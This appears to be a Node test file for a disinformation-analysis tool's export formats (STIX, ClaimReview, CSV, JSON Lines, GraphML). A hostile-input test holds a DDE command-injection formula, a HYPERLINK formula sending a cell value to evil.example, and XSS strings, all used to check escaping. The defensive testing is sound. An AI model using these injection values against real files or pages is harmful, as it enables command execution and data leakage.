import assert from 'node:assert/strict';
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { before, test } from 'node:test';
import { parse as parseCsv } from 'csv-parse/sync';
import { XMLParser, XMLValidator } from 'fast-xml-parser';
import { packageRoot } from '../../src/core/paths.js';
import { exportChunks, isExportFormat } from '../../src/export/index.js';
import { loadExportReport } from '../../src/export/load.js';
import { parseMinScore } from '../../src/report/thresholds.js';
import type { Document, Finding } from '../../src/core/types.js';
import { loadResources } from '../../src/nlp/resources.js';
import { runPipeline } from '../../src/pipeline/run.js';
import { reviewDraft } from '../../src/review/record.js';
import { openSqliteStore } from '../../src/store/sqlite.js';
import { SEEDS, SHARED, haveSeeds } from '../helpers/seeds.js';
import { runCli, tempDir } from '../support/cli.js';
import { STIX_SCHEMAS, stixErrors, stixRefs } from '../support/stix.js';

/**
 * Every export format from the CLI on our own articles and the seeds, with analysts' reviews:
 * STIX 2.1 checked against the official OASIS schemas, ClaimReview's required properties,
 * CSV read back with a CSV parser, GraphML with an XML parser; then hostile input.
 */

const haveSchemas = existsSync(STIX_SCHEMAS);
const DISARM = join(SHARED, 'data', 'disarm', 'DISARM.json');
type Stix = { type: string; id: string; objects: Array<Record<string, unknown> & { type: string; id: string }> };

const dir = tempDir('discern-export-');
const db = join(dir, 'x.db');
const hostileDb = join(dir, 'hostile.db');
let claim: Finding & { doc: string };
let accusation: Finding & { doc: string };
let technique: Finding & { doc: string };

/** An export in-process (what `discern export` writes), with the CLI's flags. */
async function exported(format: string, database = db, ...extra: string[]): Promise<string> {
  const flag = (name: string) => {
    const i = extra.indexOf(name);
    return i >= 0 ? extra[i + 1] : undefined;
  };
  assert.ok(isExportFormat(format));
  const store = openSqliteStore(database);
  try {
    const report = await loadExportReport(store, { thresholds: parseMinScore(flag('--min-score')) });
    return [...exportChunks(report, format, { baseUrl: flag('--base-url') })].join('');
  } finally {
    await store.close();
  }
}

before(async () => {
  const store = openSqliteStore(db);
  try {
    const inputs = [join(packageRoot(), 'examples'), join(packageRoot(), 'test', 'fixtures', 'review'), ...(haveSeeds ? [SEEDS] : [])];
    const run = await runPipeline({ command: 'analyze', inputs, store, resources: await loadResources() });
    const all = await Promise.all(run.documents.map(async (d) => (await store.getFindings(d.id)).map((f) => ({ ...f, doc: d.id }))));
    const flat = all.flat();
    const pick = (kind: string, where: (f: Finding) => boolean = () => true) => {
      const f = flat.find((x) => x.kind === kind && where(x));
      assert.ok(f, `a ${kind} to review`);
      return f;
    };
    claim = pick('claim');
    accusation = pick('accusation', (f) => f.data?.accuser === 'Mali');
    technique = pick('technique');
    await store.addReview(reviewDraft(claim.doc, claim, { status: 'confirmed', verdict: 'false', note: 'the records say otherwise', reviewer: 'ana' }));
    await store.addReview(reviewDraft(accusation.doc, accusation, { accused: 'Niger', reviewer: 'ana' }));
    await store.addReview(reviewDraft(technique.doc, technique, { status: 'rejected', reviewer: 'bo' }));
  } finally {
    await store.close();
  }
});

test('STIX: the bundle validates against the OASIS schemas, every ref resolves, DISARM objects are DISARM\'s own, ids are stable', { skip: !haveSchemas && 'no ../shared/contract/stix2.1' }, async () => {
  const text = await exported('stix');
  const bundle = JSON.parse(text) as Stix;
  assert.deepEqual(stixErrors(bundle), []);
  const ids = new Set(bundle.objects.map((o) => o.id));
  assert.equal(ids.size, bundle.objects.length, 'no duplicate ids');
  assert.deepEqual(stixRefs(bundle.objects).filter((r) => !ids.has(r)), []);
  const of = (type: string) => bundle.objects.filter((o) => o.type === type);
  assert.ok(of('identity').some((o) => o.name === 'Discern' && o.identity_class === 'system'));
  const reports = of('report');
  assert.equal(reports.length, haveSeeds ? 10 : 5, 'a report per document');
  for (const r of reports) assert.ok((r.object_refs as string[]).length > 0);

  // DISARM's own objects, unchanged
  if (existsSync(DISARM)) {
    const disarm = new Map((JSON.parse(readFileSync(DISARM, 'utf8')) as Stix).objects.map((o) => [o.id, o]));
    const patterns = of('attack-pattern');
    assert.ok(patterns.length > 0);
    for (const p of patterns) assert.deepEqual(p, disarm.get(p.id), `${p.id} is DISARM's object`);
  }
  // evidence: the quote is the document's text at the span; the corrected accusation names Niger
  const uses = of('relationship').filter((o) => o.relationship_type === 'uses');
  assert.ok(uses.length > 0);
  const accuses = of('relationship').find((o) => o.x_discern_finding === accusation.id);
  assert.ok(accuses);
  const target = bundle.objects.find((o) => o.id === accuses.target_ref);
  assert.equal(target?.name, 'Niger');
  assert.equal(accuses.x_discern_quote, accusation.quote);
  assert.deepEqual(accuses.x_discern_span, [accusation.start, accusation.end]);
  // reviews as opinions; the rejected technique is not exported
  const opinions = of('opinion');
  assert.ok(opinions.some((o) => o.opinion === 'strongly-disagree' && (o.authors as string[])[0] === 'ana'), 'verdict false on the claim');
  assert.ok(opinions.some((o) => o.opinion === 'disagree' && String(o.explanation).includes('Niger')), 'the correction');
  assert.equal(bundle.objects.some((o) => o.x_discern_finding === technique.id), false);
  // the same database exports the same ids — through the CLI, to a file
  const out = join(dir, 'again.stix.json');
  const cli = await runCli(['export', '--format', 'stix', '--db', db, '--out', out]);
  assert.equal(cli.code, 0, cli.stderr);
  assert.equal(cli.stdout, '');
  const again = JSON.parse(readFileSync(out, 'utf8')) as Stix;
  assert.deepEqual(again.objects.map((o) => o.id), bundle.objects.map((o) => o.id));
  assert.equal(again.id, bundle.id);
});

test('ClaimReview: every claim with a verdict, with the properties fact-check readers need', async () => {
  const reviews = JSON.parse(await exported('claimreview', db, '--base-url', 'https://checks.example.org/')) as Array<Record<string, any>>;
  assert.equal(reviews.length, 1);
  const r = reviews[0];
  for (const key of ['@context', '@type', 'claimReviewed', 'reviewRating', 'url', 'author', 'datePublished', 'itemReviewed']) assert.ok(r[key] !== undefined, key);
  assert.equal(r['@context'], 'https://schema.org');
  assert.equal(r['@type'], 'ClaimReview');
  assert.equal(r.claimReviewed, claim.quote.replace(/\s+/g, ' ').trim());
  assert.deepEqual(r.reviewRating, { '@type': 'Rating', alternateName: 'False', ratingValue: 1, bestRating: 5, worstRating: 1, ratingExplanation: 'the records say otherwise' });
  assert.match(r.url, /^https:\/\/checks\.example\.org\/#\/doc\//);
  assert.deepEqual(r.author, { '@type': 'Person', name: 'ana' });
  assert.match(r.datePublished, /^\d{4}-\d{2}-\d{2}$/);
  assert.equal(r.itemReviewed['@type'], 'Claim');
  assert.equal(r.itemReviewed.appearance['@type'], 'CreativeWork');
  assert.ok(r.itemReviewed.author?.name, 'who made the claim');
});

test('CSV and JSON Lines: one row per finding with its review; the rejected one left out; --min-score filters', async () => {
  const rows = parseCsv(await exported('csv'), { columns: true }) as Array<Record<string, string>>;
  const jsonl = (await exported('jsonl')).trim().split('\n').map((l) => JSON.parse(l) as Record<string, any>);
  assert.equal(rows.length, jsonl.length);
  const row = rows.find((r) => r.finding_id === claim.id);
  assert.equal(row?.review_status, 'confirmed');
  assert.equal(row?.review_verdict, 'false');
  assert.equal(row?.quote, claim.quote.startsWith('-') ? `'${claim.quote}` : claim.quote);
  assert.equal(rows.some((r) => r.finding_id === technique.id), false);
  assert.equal(rows.find((r) => r.finding_id === accusation.id)?.accused, 'Niger');
  assert.ok(rows.every((r) => r.kind !== 'sentence'));
  assert.ok(jsonl.some((l) => l.scope === 'corpus' && Array.isArray(l.members)));
  const high = (await exported('jsonl', db, '--min-score', '0.8')).trim().split('\n').map((l) => JSON.parse(l) as { score: number });
  assert.ok(high.length > 0 && high.length < jsonl.length);
  assert.ok(high.every((l) => l.score >= 0.8));
});

test('GraphML: parses as XML; actors with type and aliases; the corrected accusation moved its edge', async () => {
  const xml = await exported('graphml');
  assert.equal(XMLValidator.validate(xml), true);
  const doc = new XMLParser({ ignoreAttributes: false, isArray: (name) => ['node', 'edge', 'data', 'key'].includes(name) }).parse(xml) as any;
  const graph = doc.graphml.graph;
  const data = (el: any, key: string) => el.data?.find((d: any) => d['@_key'] === key)?.['#text'];
  const names = new Map<string, string>(graph.node.map((n: any) => [n['@_id'], String(data(n, 'label'))]));
  const edges = graph.edge.map((e: any) => ({ source: names.get(e['@_source']), target: names.get(e['@_target']), stance: data(e, 'stance'), count: Number(data(e, 'count')), corrected: data(e, 'reviewed') }));
  assert.ok(edges.some((e: any) => e.source === 'Mali' && e.target === 'Niger' && e.corrected === true));
  assert.equal(edges.some((e: any) => e.source === 'Mali' && e.target === 'Algeria'), false);
  assert.ok(graph.node.some((n: any) => data(n, 'type') === 'place' || data(n, 'type') === 'group'));
});

test('export refuses bad usage with exit 2 and the option at fault', async () => {
  for (const [args, pattern] of [
    [['--format', 'pdf'], /--format: unknown format "pdf"/],
    [['--format', 'csv', '--min-score', '2'], /--min-score needs a score from 0 to 1/],
    [['--format', 'csv', '--run', '999'], /--run: there is no run 999/],
    [['--format', 'claimreview', '--base-url', 'javascript:alert(1)'], /--base-url: needs an http\(s\) URL/],
  ] as const) {
    const out = await runCli(['export', ...args, '--db', db]);
    assert.equal(out.code, 2, out.stderr);
    assert.match(out.stderr, pattern);
  }
});

test('hostile input: control characters, markup, formulas and a huge text survive every format', { timeout: 60_000 }, async () => {
  const filler = 'word '.repeat(200_000);
  const text = `=HYPERLINK("http://evil.example/?"&A1) said @Bob\u0007 <script>alert(1)</script> & "quotes" \u0000\u001b[31m ${filler}-2+3 is the claim.\u2028end`;
  const doc: Document = { id: 'hostile', format: 'text', source: { title: '=cmd|\' /C calc\'!A0', url: 'https://example.org/a?x=<b>&y="1"', outlet: '@outlet\u0001' }, text, sections: [{ kind: 'body', start: 0, end: text.length }] };
  const span = (quote: string, from = 0) => {
    const start = text.indexOf(quote, from);
    return { start, end: start + quote.length, quote };
  };
  const f = (id: string, kind: string, label: string, s: { start: number; end: number; quote: string }, data?: Record<string, unknown>): Finding => ({
    id, analyzer: 'x@1', kind, label, ...s, score: 0.9, explanation: `why\u0007 <b>${kind}</b> =1+1`, ...(data ? { data } : {}),
  });
  const findings = [
    f('h1', 'claim', 'statistic', span('=HYPERLINK("http://evil.example/?"&A1) said @Bob\u0007')),
    f('h2', 'accusation', 'asserts', span('<script>alert(1)</script>'), { accuser: '=evil()\u0000<x>', accused: '"Quoted" & <Co>\u001b', allegation: 'did -harm\u0007', stance: 'asserts' }),
    f('h3', 'technique', 'Loaded_Language', span('-2+3 is the claim.')),
    f('h4', 'entity', '<Co>', span('<script>'), { type: 'organisation' }),
  ];
  const store = openSqliteStore(hostileDb);
  try {
    await store.saveAnalysis({ doc, origin: 'x', produced: new Map([['x@1', findings]]), failures: [], runId: null });
    await store.addReview(reviewDraft('hostile', findings[0], { status: 'confirmed', verdict: 'mostly-false', note: '=SUM(A1)\u0007 <i>note</i>', reviewer: '@ana' }));
  } finally {
    await store.close();
  }
  if (haveSchemas) assert.deepEqual(stixErrors(JSON.parse(await exported('stix', hostileDb)) as Stix), []);
  const xml = await exported('graphml', hostileDb);
  assert.equal(XMLValidator.validate(xml), true);
  assert.ok(xml.includes('&lt;Co&gt;') && !xml.includes('\u0000') && !xml.includes('\u0007'));
  const rows = parseCsv(await exported('csv', hostileDb), { columns: true, relax_quotes: false }) as Array<Record<string, string>>;
  const byId = new Map(rows.map((r) => [r.finding_id, r]));
  assert.equal(byId.get('h1')?.quote, `'=HYPERLINK("http://evil.example/?"&A1) said @Bob\u0007`);
  assert.equal(byId.get('h1')?.title, `'=cmd|' /C calc'!A0`);
  assert.equal(byId.get('h1')?.outlet, `'@outlet\u0001`);
  assert.equal(byId.get('h1')?.review_note, `'=SUM(A1)\u0007 <i>note</i>`);
  assert.equal(byId.get('h1')?.reviewer, `'@ana`);
  assert.equal(byId.get('h3')?.quote, `'-2+3 is the claim.`);
  assert.equal(byId.get('h2')?.accuser, `'=evil()\u0000<x>`);
  for (const r of rows) for (const cell of Object.values(r)) assert.ok(!/^[=+\-@\t\r]/.test(cell), `cell ${JSON.stringify(cell.slice(0, 40))} is neutralised`);
  const lines = (await exported('jsonl', hostileDb)).trim().split('\n');
  assert.equal(JSON.parse(lines[0]).quote, findings[0].quote, 'JSON Lines keep the exact quote');
  const claimReview = JSON.parse(await exported('claimreview', hostileDb)) as Array<Record<string, any>>;
  assert.equal(claimReview[0].reviewRating.ratingValue, 2);
});
